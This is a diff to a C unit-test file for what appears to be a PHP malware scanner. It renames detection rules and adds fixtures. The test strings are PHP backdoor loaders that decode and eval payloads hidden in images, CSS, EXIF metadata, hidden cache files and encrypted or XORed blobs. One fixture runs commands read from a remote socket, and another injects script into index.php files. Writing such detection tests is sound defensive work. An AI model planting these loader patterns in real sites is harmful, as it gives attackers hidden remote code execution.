@@ -40,18 +40,18 @@ static void test_second_file_decoded(void **state)
 	(void)state;
 	expect("<?php $p = file_get_contents(__DIR__ . '/favicon.ico');\n"
 	       "eval(gzinflate(base64_decode($p)));",
-	       "php.image_payload_eval", HS_SEV_HIGH);
+	       "php.asset_payload_eval", HS_SEV_HIGH);
 	expect("<?php $p = file_get_contents(__DIR__ . '/assets/theme.min.css');\n"
 	       "eval(gzinflate(base64_decode(substr($p, strrpos($p, '/*@') + 3))));",
-	       "php.decoded_file_eval", HS_SEV_HIGH);
-	expect("<?php $d = @file_get_contents(dirname(__FILE__) . '/.cache.dat');\n"
+	       "php.asset_payload_eval", HS_SEV_HIGH);
+	expect("<?php $d = @file_get_contents(dirname(__FILE__) . '/.htcache');\n"
 	       "if ($d) { $f = base64_decode(strrev($d)); eval($f); }",
 	       "php.decoded_file_eval", HS_SEV_HIGH);
-	expect("<?php $h = fopen('data.bin', 'r'); $c = fread($h, 99999);\n"
+	expect("<?php $h = fopen('uploads/.wp-9a1f', 'r'); $c = fread($h, 99999);\n"
 	       "assert(str_rot13(base64_decode($c)));",
 	       "php.decoded_file_eval", HS_SEV_HIGH);
 	/* a name built from this file's name is another file */
-	expect("<?php $s = __DIR__ . '/' . basename(__FILE__, '.php') . '.dat';\n"
+	expect("<?php $s = __DIR__ . '/' . basename(__FILE__, '.php') . '.cache';\n"
 	       "eval(gzuncompress(base64_decode(file_get_contents($s))));",
 	       "php.decoded_file_eval", HS_SEV_HIGH);
 	/* found by glob, read whole with file() */
@@ -74,6 +74,17 @@ static void test_second_file_decoded(void **state)
 	/* a serialized store: an element of what unserialize() gives */
 	expect("<?php $c = unserialize(file_get_contents(__DIR__ . '/cache/.meta'));\n"
 	       "eval(base64_decode($c['body']));",
+	       "php.decoded_file_eval", HS_SEV_HIGH);
+	/* a data blob (.dat, .bin) is an asset: code in one is run as it is */
+	expect("<?php $d = file_get_contents(__DIR__ . '/.cache.dat'); eval($d);",
+	       "php.asset_payload_eval", HS_SEV_HIGH);
+	/* decrypted with a key, or XORed one character after another */
+	expect("<?php $d = file_get_contents('/tmp/.sess_x');\n"
+	       "eval(openssl_decrypt($d, 'aes-128-cbc', 'k3y', 0, '1234567890123456'));",
+	       "php.decoded_file_eval", HS_SEV_HIGH);
+	expect("<?php $d = file_get_contents(__DIR__ . '/.htcache'); $k = 'q7'; $o = '';\n"
+	       "for ($i = 0; $i < strlen($d); $i++) { $o .= chr(ord($d[$i]) ^ ord($k[$i % 2])); }\n"
+	       "eval($o);",
 	       "php.decoded_file_eval", HS_SEV_HIGH);
 	/* a decoded value that is not from a file stays medium */
 	run("<?php eval(base64_decode($undefined_thing));");
@@ -110,20 +121,20 @@ static void test_image_payload(void **state)
 	(void)state;
 	expect(
 	    "<?php $e = exif_read_data(__DIR__ . '/logo.jpg'); eval(base64_decode($e['Model']));",
-	    "php.image_payload_eval", HS_SEV_HIGH);
+	    "php.asset_payload_eval", HS_SEV_HIGH);
 	expect("<?php $e = @exif_read_data('img/header.jpg');\n"
 	       "preg_replace($e['Make'], $e['Model'], '');\n"
 	       "eval($e['COMPUTED']['UserComment']);",
-	       "php.image_payload_eval", HS_SEV_HIGH);
+	       "php.asset_payload_eval", HS_SEV_HIGH);
 	expect("<?php getimagesize(__DIR__ . '/bg.jpg', $info);\n"
 	       "$i = iptcparse($info['APP13']); eval($i['2#120'][0]);",
-	       "php.image_payload_eval", HS_SEV_HIGH);
+	       "php.asset_payload_eval", HS_SEV_HIGH);
 	expect("<?php $d = file_get_contents(__DIR__ . '/assets/logo.png');\n"
 	       "eval(substr($d, 3242));",
-	       "php.image_payload_eval", HS_SEV_HIGH);
+	       "php.asset_payload_eval", HS_SEV_HIGH);
 	expect("<?php $f = fopen('wp-content/uploads/2024/03/cat.gif', 'rb'); fseek($f, 64);\n"
 	       "$x = fread($f, 8192); assert($x);",
-	       "php.image_payload_eval", HS_SEV_HIGH);
+	       "php.asset_payload_eval", HS_SEV_HIGH);
 	/* a picture's metadata shown on a page is what galleries do */
 	quiet("<?php $e = exif_read_data($path); echo htmlspecialchars($e['Model'] ?? '');\n"
 	      "getimagesize($path, $info); if (isset($info['APP13'])) { $i = "
@@ -303,7 +314,7 @@ static void test_through_analyze(void **state)
 {
 	(void)state;
 	static const char *const srcs[][2] = {
-	    {"<?php $e = exif_read_data('a.jpg'); eval($e['Model']);", "php.image_payload_eval"},
+	    {"<?php $e = exif_read_data('a.jpg'); eval($e['Model']);", "php.asset_payload_eval"},
 	    {"<?php $o = get_transient('x'); eval(base64_decode($o));", "php.decoded_file_eval"},
 	    {"<?php $s = fsockopen('198.51.100.7', 80); system(fgets($s));", "php.remote_command"},
 	    {"<?php foreach (glob('*/index.php') as $f) file_put_contents($f, '<script "
